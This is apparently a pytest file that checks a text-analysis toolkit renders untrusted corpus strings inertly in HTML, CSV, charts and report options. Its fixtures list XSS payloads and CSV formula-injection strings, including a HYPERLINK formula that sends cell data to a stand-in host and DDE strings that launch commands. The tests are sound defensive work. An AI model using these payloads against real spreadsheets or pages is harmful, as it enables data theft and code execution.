"""Hostile strings in, inert output out: HTML, CSV, charts, report options and folders.

A corpus, lexicon or term set is untrusted (SECURITY.md). Strings from them must come out of
every HTML path as text, out of every CSV as text a spreadsheet will not run, out of every chart
as written, and bad report options must fail before anything runs, naming the option.
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
import warnings
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import matplotlib
import matplotlib.pyplot as plt
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import toolkit
from toolkit.__main__ import main
from toolkit._safety import (
    FORMULA_PREFIXES,
    active_markup,
    escape_html,
    literal_text,
    neutralize_cell,
    neutralize_table,
)
from toolkit.report import ReportParameterError, run_report, save_result

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "</td></tr></table><b onmouseover=alert(1)>",
)
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
MATH = (r"$\frac{$ News", "$x^2$ Times", "Cost: $5 and $6", "a\\$b$")

# hostile text: a payload, then anything printable around it
_printable = st.characters(min_codepoint=32, max_codepoint=0x2FF, exclude_categories=("Cc",))
hostile = st.builds(lambda a, p, b: f"{a}{p}{b}", st.text(_printable, max_size=8),
                    st.sampled_from(PAYLOADS + FORMULAS[:4] + MATH),
                    st.text(_printable, max_size=8))


class _Page(HTMLParser):
    """Elements, attributes and the text inside each table cell / script of an HTML page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.cells: list[str] = []
        self.scripts: list[str] = []
        self._in: str | None = None

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag in ("td", "th", "script"):
            self._in = tag
            (self.scripts if tag == "script" else self.cells).append("")

    def handle_endtag(self, tag):
        if tag in ("td", "th", "script"):
            self._in = None

    def handle_data(self, data):
        if self._in == "script":
            self.scripts[-1] += data
        elif self._in is not None:
            self.cells[-1] += data


def _page(html: str) -> _Page:
    page = _Page()
    page.feed(html)
    page.close()
    return page


def _corpus(doc_ids, outlets, titles, texts) -> pd.DataFrame:
    return pd.DataFrame({"doc_id": doc_ids, "outlet": outlets, "title": titles, "text": texts,
                         "date": pd.to_datetime(["2022-03-01"] * len(doc_ids))})


# --------------------------------------------------------------------------- HTML: KWIC


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(doc_id=hostile, outlet=hostile, title=hostile, before=hostile, after=hostile)
def test_kwic_display_shows_every_hostile_string_as_text(doc_id, outlet, title, before, after):
    doc_id, outlet = doc_id.strip() or "x", outlet.strip() or "y"
    text = f"{before} the Kiev regime {after}"
    table = toolkit.kwic(_corpus([doc_id], [outlet], [title], [text]), "regime", window=3)
    html = table._repr_html_()
    assert active_markup(html) == []
    page = _page(html)
    assert doc_id in page.cells and outlet in page.cells  # shown exactly, as text
    assert all(t not in ("script", "img", "svg", "iframe", "a", "b") for t, _ in page.tags)
    assert 'class="tex2jax_ignore"' in html  # $...$ is not typeset by MathJax


def test_kwic_display_escapes_added_columns_and_index_labels():
    table = toolkit.kwic(_corpus(["d"], ["o"], ["t"], ["the Kiev regime"]), "regime")
    table["<img src=x onerror=alert(1)>"] = "<script>alert(1)</script>"
    table.index = ["<svg onload=alert(1)>"]
    html = table._repr_html_()
    assert active_markup(html) == []
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "&lt;svg onload=alert(1)&gt;" in html


def test_result_tables_display_escaped(demo):
    """Plain result tables use pandas' HTML, which escapes; checked so that it stays so."""
    corpus = demo.head(8).assign(outlet=[PAYLOADS[i % len(PAYLOADS)] for i in range(8)])
    for table in (toolkit.describe_corpus(corpus, by="outlet"),
                  toolkit.lexicon_hits(corpus, "loaded_language").head(),
                  toolkit.term_frequency(corpus, by="outlet").head()):
        assert active_markup(table._repr_html_()) == []


def test_report_notebooks_keep_tables_from_mathjax():
    folder = Path(toolkit.__file__).parent / "data" / "notebooks"
    for path in sorted(folder.glob("*.ipynb")):
        assert 'display.html.use_mathjax\\", False' in path.read_text(encoding="utf-8"), path


def test_active_markup_finds_what_runs_and_passes_tables():
    for payload in PAYLOADS:
        assert active_markup(payload), payload
    assert active_markup(pd.DataFrame({"a": list(PAYLOADS)}).to_html()) == []
    assert active_markup(f"<td>{escape_html(PAYLOADS[2])}</td>") == []


def test_report_page_shows_active_outputs_as_plain_text():
    import nbformat

    from toolkit.report import _make_inert

    cell = nbformat.v4.new_code_cell("x")
    cell.outputs = [nbformat.v4.new_output(
        "display_data", data={"text/html": "<img src=x onerror=alert(1)>",
                              "text/plain": "an image"}),
        nbformat.v4.new_output("display_data", data={"text/html": "<b>fine</b>"})]
    _make_inert(cell)
    assert cell.outputs[0]["data"] == {"text/plain": "an image"}
    assert cell.outputs[1]["data"] == {"text/html": "<b>fine</b>"}


# --------------------------------------------------------------------------- CSV


def _csv_cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _formula_cells(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(FORMULA_PREFIXES) and neutralize_cell(c) != c]


def test_save_result_neutralises_formula_cells_and_keeps_numbers(tmp_path):
    table = pd.DataFrame({
        "doc_id": list(FORMULAS),
        "z": [-1.5, 2.0, -3.25, 0.0, 1e-9, -7.0],
        "as_text": ["-1.5", "+2", "-3e-4", "=1", "Kyiv", "@x"],
        FORMULAS[0]: pd.Categorical(["@a", "b", "@a", "b", "b", "b"]),
    })
    before = table.copy()
    save_result("t", table=table, output_dir=tmp_path)
    pd.testing.assert_frame_equal(table, before)  # the caller's table is not modified
    path = tmp_path / "tables" / "t.csv"
    assert _formula_cells(_csv_cells(path)) == []
    back = pd.read_csv(path)
    assert back["z"].tolist() == [-1.5, 2.0, -3.25, 0.0, 1e-9, -7.0]  # numbers stay numbers
    assert back["doc_id"].tolist() == ["'" + f for f in FORMULAS[:4]] + ["'\t=1+1", "'\r=1+1"]
    # text that is only a number is left as it is; formulas get the quote
    assert back["as_text"].tolist() == ["-1.5", "+2", "-3e-4", "'=1", "Kyiv", "'@x"]
    assert back.columns[3] == "'" + FORMULAS[0]
    assert back.iloc[:, 3].tolist()[:2] == ["'@a", "b"]

    save_result("raw", table=table, output_dir=tmp_path, raw=True)
    assert pd.read_csv(tmp_path / "tables" / "raw.csv")["doc_id"].tolist()[:4] == \
        list(FORMULAS[:4])


@settings(max_examples=60, deadline=None)
@given(st.lists(st.one_of(hostile, st.text(max_size=6), st.floats(allow_nan=False),
                          st.integers()), min_size=1, max_size=6))
def test_neutralised_tables_hold_no_formula_and_change_only_formula_text(values):
    table = pd.DataFrame({"v": pd.Series(values, dtype=object)})
    out = neutralize_table(table)
    for old, new in zip(values, out["v"], strict=True):
        if isinstance(old, str) and old.startswith(FORMULA_PREFIXES) and new != old:
            assert new == "'" + old
        else:
            assert new == old
    assert _formula_cells([v for v in out["v"] if isinstance(v, str)]) == []


# --------------------------------------------------------------------------- charts


def _draw_every_chart(outlets: list[str]) -> list[plt.Figure]:
    corpus = toolkit.demo_corpus()
    names = dict(zip(sorted(corpus["outlet"].unique()), outlets, strict=True))
    corpus = corpus.assign(outlet=corpus["outlet"].map(names))
    figures = []
    freq = toolkit.term_frequency(corpus, by="outlet", stopwords="english")
    figures.append(toolkit.plot_term_rates(freq, n=5).figure)
    sets = toolkit.load_term_sets("russia_ukraine")
    shares = toolkit.term_share(corpus, sets["capital"], by="outlet")
    figures.append(toolkit.plot_term_share(shares).figure)
    yearly = toolkit.term_share(corpus, sets["capital"], by="outlet", period="year")
    figures.append(toolkit.plot_term_share_over_time(yearly, label="Kyiv").figure)
    counts = toolkit.lexicon_counts(corpus, "loaded_language", by=["outlet", "doc_id"])
    figures.append(toolkit.plot_loaded_language(counts, x="outlet", hue="category").figure)
    figures.append(toolkit.plot_readability(toolkit.readability(corpus),
                                            measure="gunning_fog").figure)
    key = toolkit.keyness(corpus, target=outlets[0], min_count=3)
    figures.append(toolkit.plot_keyness(key, n=5, target_label=outlets[0],
                                        reference_label=outlets[1]).figure)
    hits = toolkit.kwic(corpus, "regime")
    figures.append(toolkit.plot_dispersion(hits, term="outlet", x="date").figure)
    return figures


def test_outlet_names_with_dollars_and_markup_are_drawn_as_written():
    outlets = [MATH[0], MATH[1], PAYLOADS[0], "--> " + PAYLOADS[2]]
    drawn = set()
    for figure in _draw_every_chart(outlets):
        figure.canvas.draw()  # mathtext would fail here on r"$\frac{$"
        for text in figure.findobj(matplotlib.text.Text):
            shown, is_math = text._preprocess_math(text.get_text())
            assert not is_math, text.get_text()
            drawn.add(shown)
        with matplotlib.rc_context({"svg.fonttype": "none"}):
            buffer = io.StringIO()
            figure.savefig(buffer, format="svg")
        root = ElementTree.fromstring(buffer.getvalue())  # well-formed: nothing broke out
        for element in root.iter():
            tag = element.tag.rsplit("}", 1)[-1]
            assert tag not in ("script", "foreignObject", "iframe"), tag
            assert not any(name.lower().startswith("on") for name in element.attrib)
        plt.close(figure)
    assert any(MATH[0] in shown for shown in drawn)  # the name itself, not typeset
    assert any(MATH[1] in shown for shown in drawn)


def test_literal_text_under_each_matplotlib_setting():
    assert literal_text("$5 and $6") == r"\$5 and \$6"
    with matplotlib.rc_context({"text.parse_math": False}):
        assert literal_text("$5 and $6") == "$5 and $6"
    with matplotlib.rc_context({"text.usetex": True}):
        assert literal_text("50% of $x_1 & {y}") == r"50\% of \$x\_1 \& \{y\}"
    assert matplotlib.rcParams["text.parse_math"] is True  # global settings not changed


# --------------------------------------------------------------------------- report options


def _cli(capsys, *args: str) -> tuple[int, str]:
    code = main(["report", *args, "--quiet"])
    return code, capsys.readouterr().err


@pytest.mark.parametrize(("args", "flag"), [
    (["--outlets", "Nowhere News"], "--outlets"),
    (["--outlets", PAYLOADS[0]], "--outlets"),
    (["--from", "2024-06-01", "--to", "2023-01-01"], "--from/--to"),
    (["--from", "31/12/2023"], "--from"),
    (["--to", "yesterday"], "--to"),
    (["--from", "2031-01-01"], "--from"),
    (["--outlets", "Meridian Wire", "--to", "1999-01-01"], "--outlets/--to"),
    (["--lexicon", "no_such_lexicon"], "--lexicon"),
    (["--term-sets", "no_such_sets.yaml"], "--term-sets"),
])
def test_bad_report_options_name_the_option_and_write_nothing(capsys, tmp_path, args, flag):
    out = tmp_path / "out"
    code, err = _cli(capsys, "--out", str(out), *args)
    assert code == 2
    assert err.startswith(f"error: argument {flag}: ")
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1
    assert not out.exists()


def test_report_options_checked_before_the_folder_is_touched(tmp_path):
    out = tmp_path / "out"
    with pytest.raises(ReportParameterError) as caught:
        run_report(None, out=out, outlets=["Nowhere"], progress=False)
    assert caught.value.parameters == ("outlets",)
    assert "Meridian Wire" in str(caught.value)  # says which outlets there are
    with pytest.raises(ReportParameterError, match="swap"):
        run_report(None, out=out, date_from="2024-02-01", date_to="2024-01-01", progress=False)
    no_dates = tmp_path / "no_dates.csv"
    toolkit.demo_corpus().drop(columns="date").to_csv(no_dates, index=False)
    with pytest.raises(ReportParameterError, match="no dates"):
        run_report(no_dates, out=out, date_from="2024-01-01", progress=False)
    assert not out.exists()


@settings(max_examples=8, deadline=None)
@given(st.lists(hostile, min_size=1, max_size=3))
def test_any_unknown_outlet_is_named_on_one_line(outlets):
    with pytest.raises(ReportParameterError) as caught:
        from toolkit.report import _check_selection

        _check_selection(toolkit.demo_corpus(), outlets=outlets, date_from=None, date_to=None)
    assert caught.value.parameters == ("outlets",)


def test_out_inside_a_file_is_one_clear_error(capsys, tmp_path):
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    for out in (blocker, blocker / "report"):
        code, err = _cli(capsys, "--out", str(out))
        assert code == 2
        assert err.startswith("error: argument --out: ") and "Traceback" not in err
    assert blocker.read_text() == "x"


def test_out_with_braces_and_a_rerun_after_an_interrupted_run(tmp_path):
    """Papermill reads paths as templates; an interrupted run's files are replaced."""
    out = tmp_path / "rep{}{x}"
    (out / "figures").mkdir(parents=True)
    (out / "figures" / "mine.png").write_bytes(b"kept")  # there before the interrupted run
    (out / "manifest.json").write_text(json.dumps({
        "generated_by": "discourse-toolkit report", "status": "running",
        "kept": ["figures/mine.png"]}))
    (out / "notebooks").mkdir()
    (out / "notebooks" / "01_quickstart.ipynb").write_text("half written")
    (out / "tables").mkdir()
    (out / "tables" / "term_frequency.csv").write_text("half")
    run_report(None, out=out, notebooks=["04_readability"], progress=False)
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["status"] == "complete"
    assert not (out / "notebooks" / "01_quickstart.ipynb").exists()
    assert not (out / "tables" / "term_frequency.csv").exists()
    assert (out / "figures" / "mine.png").read_bytes() == b"kept"
    assert "figures/mine.png" not in manifest["files"]
    assert "notebooks/04_readability.ipynb" in manifest["files"]


def test_ctrl_c_prints_one_line_and_the_folder_can_be_rerun(tmp_path):
    out = tmp_path / "rep"
    env = {**os.environ, "PYTHONPATH": str(Path(toolkit.__file__).parents[1])}
    process = subprocess.Popen(
        [sys.executable, "-m", "toolkit", "report", "--out", str(out), "--quiet"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env,
        start_new_session=True,  # its own process group, like a terminal's foreground job
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    deadline = time.monotonic() + 120
    while not (out / "notebooks" / "01_quickstart.ipynb").exists():
        assert process.poll() is None and time.monotonic() < deadline
        time.sleep(0.1)
    os.killpg(process.pid, signal.SIGINT)  # what Ctrl-C sends: to the CLI and its kernel
    _, err = process.communicate(timeout=120)
    # the kernel shares the terminal: it may say it is going away (its own line, not ours)
    kernel_noise = ("WARNING | Kernel is running", "Parent appears to have exited")
    lines = [line for line in err.splitlines() if not any(n in line for n in kernel_noise)]
    assert process.returncode == 130
    # our one line, and no traceback; the kernel, which shares the terminal, may add lines of
    # its own as it shuts down (they vary with timing)
    assert f"interrupted: the report in {out} is incomplete; run the same command again to " \
           f"redo it" in lines
    assert sum(line.startswith("interrupted") for line in lines) == 1
    assert not any("Traceback" in line for line in err.splitlines())
    assert json.loads((out / "manifest.json").read_text())["status"] == "running"
    # the rerun is not blocked by the interrupted run's folder
    from toolkit.report import _prepare_folder

    assert _prepare_folder(out) == []
    assert not (out / "notebooks" / "01_quickstart.ipynb").exists()


# --------------------------------------------------------------------------- analyze folders


def test_truncated_manifest_does_not_crash_analyze(demo, tmp_path):
    out = tmp_path / "out"
    expected = toolkit.analyze(demo.iloc[:12], out=out, chunk_size=5).documents()
    text = (out / "manifest.json").read_text()
    for resume in (False, True):
        (out / "manifest.json").write_text(text[: len(text) // 2])
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            result = toolkit.analyze(demo.iloc[:12], out=out, chunk_size=5, resume=resume)
        pd.testing.assert_frame_equal(result.documents(), expected)
        assert json.loads((out / "manifest.json").read_text())["status"] == "complete"
        said = [str(w.message) for w in caught if "manifest.json is damaged" in str(w.message)]
        assert len(said) == (1 if resume else 0)


def test_damaged_manifest_in_a_folder_with_other_files_is_refused(demo, tmp_path):
    (tmp_path / "manifest.json").write_text("{not json")
    (tmp_path / "notes.txt").write_text("keep me")
    with pytest.raises(FileExistsError, match="damaged manifest.json.*notes.txt"):
        toolkit.analyze(demo.iloc[:5], out=tmp_path, resume=False)
    assert (tmp_path / "notes.txt").read_text() == "keep me"


def test_damaged_part_file_is_redone_on_resume(demo, tmp_path, monkeypatch):
    import toolkit.analysis as analysis

    expected = toolkit.analyze(demo.iloc[:15], chunk_size=5)
    real = analysis._analyze_chunk
    calls = []

    def crash_on_third(*args, **kwargs):
        calls.append(1)
        if len(calls) == 3:
            raise KeyboardInterrupt
        return real(*args, **kwargs)

    monkeypatch.setattr(analysis, "_analyze_chunk", crash_on_third)
    out = tmp_path / "out"
    with pytest.raises(KeyboardInterrupt):
        toolkit.analyze(demo.iloc[:15], out=out, chunk_size=5)
    damaged = out / ".parts" / "part-000001.terms.parquet"
    damaged.write_bytes(damaged.read_bytes()[:40])  # truncated, marker still there
    calls.clear()
    result = toolkit.analyze(demo.iloc[:15], out=out, chunk_size=5)
    assert len(calls) == 2  # part 1 again, and part 2
    for name in ("documents", "lexicon_counts", "term_frequency"):
        pd.testing.assert_frame_equal(getattr(result, name)(), getattr(expected, name)())


# --------------------------------------------------------------------------- whole report


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory):
    """The whole report on the demo texts under hostile outlets, ids, titles and snippets."""
    folder = tmp_path_factory.mktemp("hostile")
    corpus = toolkit.demo_corpus()
    names = dict(zip(sorted(corpus["outlet"].unique()),
                     [FORMULAS[0], MATH[0], PAYLOADS[0], PAYLOADS[2]], strict=True))
    snippet = f" {PAYLOADS[1]} the Kiev regime {PAYLOADS[0]} russophobia {MATH[2]} "
    corpus = corpus.assign(
        outlet=corpus["outlet"].map(names),
        doc_id=[f"{PAYLOADS[i % 3]}{FORMULAS[i % 4]}{i}" for i in range(len(corpus))],
        title=[PAYLOADS[i % len(PAYLOADS)] for i in range(len(corpus))],
        text=corpus["text"] + snippet,
    )
    path = folder / "hostile.jsonl"
    corpus.to_json(path, orient="records", lines=True, date_format="iso")
    return run_report(path, out=folder / "report", progress=False)


def test_hostile_report_renders_no_markup_from_the_data(hostile_report):
    import nbformat

    for notebook in sorted((hostile_report / "notebooks").glob("*.ipynb")):
        for cell in nbformat.read(notebook, as_version=4).cells:
            for output in cell.get("outputs", []):
                html = output.get("data", {}).get("text/html")
                if html is not None:
                    assert active_markup(html) == [], (notebook.name, html[:300])
    page = _page((hostile_report / "report.html").read_text(encoding="utf-8"))
    assert not any("alert(" in script for script in page.scripts)
    for tag, attributes in page.tags:
        assert tag not in ("img", "svg", "iframe") or "alert" not in str(attributes)
        assert not any(name.startswith("on") for name in attributes), (tag, attributes)
    shown = "\n".join(page.cells)
    assert PAYLOADS[0] in shown and MATH[0] in shown  # shown as text
    figures = {p.stem for p in (hostile_report / "figures").glob("*.png")}
    assert {"keyness_per_outlet", "readability_per_outlet", "top_terms_heatmap"} <= figures


def test_hostile_report_tables_hold_no_formula(hostile_report):
    tables = sorted((hostile_report / "tables").glob("*.csv"))
    assert len(tables) >= 10
    for path in tables:
        assert _formula_cells(_csv_cells(path)) == [], path.name
    overview = pd.read_csv(hostile_report / "tables" / "corpus_overview.csv")
    assert "'" + FORMULAS[0] in set(overview["outlet"])


def test_unwritable_out_is_one_clear_error(capsys, tmp_path, monkeypatch):
    import toolkit.report as report

    def refuse(out, manifest):
        raise PermissionError(13, "Permission denied", str(out / "manifest.json"))

    monkeypatch.setattr(report, "_write_manifest", refuse)  # as for a read-only folder
    code, err = _cli(capsys, "--out", str(tmp_path / "out"))
    assert code == 2
    assert err.startswith("error: argument --out: cannot write the report folder "
                          "(Permission denied)")
    assert "Traceback" not in err
    assert not (tmp_path / "out").exists()


def test_ctrl_c_before_the_report_starts_says_nothing_changed(capsys, tmp_path, monkeypatch):
    import toolkit.report as report

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(report, "run_report", interrupted)
    code, err = _cli(capsys, "--out", str(tmp_path / "out"))
    assert code == 130
    assert err == f"interrupted before the report started; nothing was changed in " \
                  f"{tmp_path / 'out'}\n"
